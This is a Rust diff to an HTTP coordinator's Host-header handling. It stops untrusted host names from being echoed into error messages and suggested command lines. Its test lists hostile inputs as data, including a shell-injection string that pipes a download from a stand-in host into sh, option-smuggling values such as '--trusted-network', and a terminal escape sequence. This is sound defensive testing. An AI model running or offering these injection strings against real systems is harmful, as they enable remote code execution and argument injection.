@@ -9,7 +9,7 @@
 //! A request names its target as `Host`, and may name it in its URI as well (RFC 9112, 3.2.2). A proxy between a
 //! client and this coordinator may use either, so both must be right.
 
-use std::net::IpAddr;
+use std::net::{IpAddr, Ipv6Addr};
 use std::str::FromStr;
 
 use axum::extract::{Request, State};
@@ -17,6 +17,7 @@ use axum::http::uri::Authority;
 use axum::http::{HeaderMap, StatusCode, Uri, header};
 use axum::middleware::Next;
 use axum::response::{IntoResponse, Response};
+use sateen_api::names::quoted;
 
 use super::Api;
 use super::problem::Problem;
@@ -33,7 +34,8 @@ impl FromStr for PublicName {
 
     fn from_str(text: &str) -> Result<Self, String> {
         let is_name = (1..=NAME_BYTES_MAX).contains(&text.len())
-            && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte));
+            && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
+            && !text.starts_with(['-', '.']);
         if is_name {
             return Ok(Self(text.trim_end_matches('.').to_ascii_lowercase()));
         }
@@ -112,18 +114,32 @@ fn refusal(uri: &Uri, headers: &HeaderMap, names: &PublicNames) -> Option<Proble
     if names.is_own(&origin, authority.unwrap_or(&host)) {
         return None;
     }
-    let origin = origin.chars().take(NAME_BYTES_MAX).collect::<String>();
-    let why = format!("a web page from `{}` may not use this coordinator", origin.escape_debug());
+    let why = format!("a web page from {} may not use this coordinator", quoted(&origin));
     Some(Problem::new(StatusCode::FORBIDDEN, why))
 }
 
+/// Repeats only what can be the name or address of a machine.
 fn misdirected(host: &str) -> Problem {
-    let name = without_port(host).chars().take(NAME_BYTES_MAX).collect::<String>();
-    let name = name.escape_debug();
-    let why = format!(
-        "the request is for `{name}`, which this coordinator does not know as its own name; if it is, start it with \
-         --public-name {name}"
-    );
+    let name = without_port(host);
+    let is_address = name.parse::<Ipv6Addr>().is_ok()
+        || name
+            .strip_prefix('[')
+            .and_then(|rest| rest.strip_suffix(']'))
+            .is_some_and(|in_brackets| in_brackets.parse::<Ipv6Addr>().is_ok());
+    let why = if name.parse::<PublicName>().is_ok() {
+        format!(
+            "the request is for `{name}`, which this coordinator does not know as its own name; if it is, start it with \
+             --public-name {name}"
+        )
+    } else if is_address {
+        format!(
+            "the request is for the address `{name}`, and this coordinator answers to loopback addresses only"
+        )
+    } else {
+        "the request's host is not the name or address of a machine; it must name the coordinator as the URL does, for \
+         example, Host: 127.0.0.1:7700"
+            .to_owned()
+    };
     Problem::new(StatusCode::MISDIRECTED_REQUEST, why)
 }
 
@@ -192,8 +208,37 @@ mod tests {
     }
 
     #[test]
+    fn a_host_that_is_no_name_of_a_machine_is_not_repeated() {
+        let why = |host: &str| {
+            let problem = misdirected(host);
+            assert_eq!(problem.status(), StatusCode::MISDIRECTED_REQUEST);
+            problem.json()["detail"].as_str().expect("a sentence").to_owned()
+        };
+        assert!(why("grid.example:7700").ends_with("start it with --public-name grid.example"));
+        assert!(why("10.0.0.1").ends_with("start it with --public-name 10.0.0.1"));
+        assert!(why("[fd00::1]:7700").contains("the address `[fd00::1]`"));
+        let long = "x".repeat(NAME_BYTES_MAX + 1);
+        for hostile in [
+            "evil; curl evil.example | sh",
+            "--trusted-network",
+            "evil --trusted-network:7700",
+            "a`b",
+            "\u{9b}2Jevil",
+            "evil@127.0.0.1",
+            "evil/127.0.0.1",
+            "[evil]",
+            ":7700",
+            &long,
+        ] {
+            let why = why(hostile);
+            assert!(why.starts_with("the request's host is not the name or address of a machine"), "{why}");
+            assert!(!why.contains("evil") && !why.contains("--") && !why.contains("xxx"), "{why}");
+        }
+    }
+
+    #[test]
     fn a_public_name_is_a_bare_name() {
-        for wrong in ["", "http://grid", "grid:7700", "a b", "a/b", &"x".repeat(300)] {
+        for wrong in ["", "http://grid", "grid:7700", "a b", "a/b", "-grid", ".grid", &"x".repeat(300)] {
             assert!(wrong.parse::<PublicName>().is_err(), "{wrong}");
         }
         assert!("grid-1.example.org".parse::<PublicName>().is_ok());
